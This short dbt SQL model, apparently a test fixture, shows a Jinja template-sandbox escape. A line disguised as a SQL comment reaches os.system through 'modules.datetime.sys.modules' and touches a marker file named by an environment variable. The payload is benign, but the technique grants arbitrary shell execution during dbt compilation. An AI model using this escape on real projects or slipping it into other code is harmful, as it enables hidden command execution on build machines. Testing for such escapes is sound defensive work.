{# dbt's modules: datetime imports sys, and sys has every module #}
select 1 as id
-- {{ modules.datetime.sys.modules['os'].system('touch ' ~ env_var('ESCAPE_MARKER')) }}
